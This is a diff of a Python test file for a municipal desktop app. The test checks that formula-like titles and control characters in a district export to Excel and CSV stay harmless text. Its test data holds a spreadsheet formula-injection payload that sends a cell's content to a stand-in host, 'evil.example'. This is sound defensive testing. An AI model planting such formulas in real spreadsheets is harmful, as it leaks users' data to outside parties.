@@ -5,9 +5,9 @@ from __future__ import annotations
 import zipfile
 from datetime import date
 
-from gwa_desktop.domain.enums import ActivityKind
+from gwa_desktop.domain.enums import OfferCategory
 from gwa_desktop.exchange.records import Period
-from gwa_desktop.services.activities import ActivityData, ActivityService
+from gwa_desktop.services.offers import OfferData, OfferService, OfferTextData
 from gwa_desktop.services.district_export import export_district
 from gwa_desktop.services.settings import MunicipalityData, SettingsService
 from tests.exchange.package_helpers import workbook_of
@@ -15,11 +15,9 @@ from tests.exchange.package_helpers import workbook_of
 
 def test_formula_like_titles_and_control_characters_stay_harmless_text(database, tmp_path):
     SettingsService(database).save(MunicipalityData(name="Gemeinde Lindenbach", district="Musterland"))
-    activities = ActivityService(database)
-    activities.create(ActivityData(occurred_on=date(2026, 5, 4), kind=ActivityKind.EVENT,
-                                   title='=HYPERLINK("http://evil.example/?"&A1,"Kinder & Eltern")', participants_total=9))
-    activities.create(ActivityData(occurred_on=date(2026, 5, 5), kind=ActivityKind.EVENT,
-                                   title="Spielenachmittag\x0bmit\x0cKaffee", participants_total=7))
+    offers = OfferService(database)
+    for title in ('=HYPERLINK("http://evil.example/?"&A1,"Kinder & Eltern")', "Spielenachmittag\x0bmit\x0cKaffee"):
+        offers.create(OfferData(texts=[OfferTextData("de", title)], category=OfferCategory.FAMILY, start_date=date(2026, 5, 4)))
 
     package = export_district(database, Period(date(2026, 1, 1), date(2026, 12, 31)), tmp_path)
 
@@ -29,5 +27,5 @@ def test_formula_like_titles_and_control_characters_stay_harmless_text(database,
     assert formula and all(c.data_type == "s" for c in formula)
     assert any(c.value == "SpielenachmittagmitKaffee" for c in cells)
     with zipfile.ZipFile(package) as archive:
-        csv_text = archive.read("csv/aktivitaeten.csv").decode("utf-8-sig")
+        csv_text = archive.read("csv/angebote.csv").decode("utf-8-sig")
     assert "'=HYPERLINK" in csv_text and "\x0b" not in csv_text
